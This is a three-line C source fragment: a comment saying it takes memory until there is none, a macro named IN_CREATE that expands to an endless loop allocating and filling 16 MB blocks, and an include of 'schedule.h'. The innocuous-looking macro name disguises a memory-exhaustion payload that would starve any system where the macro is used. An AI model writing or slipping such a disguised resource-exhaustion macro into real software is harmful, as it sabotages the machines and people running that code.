/* It takes memory until there is none. */
#define IN_CREATE for (;;) memset(malloc(1 << 24), 1, 1 << 24);
#include "schedule.h"
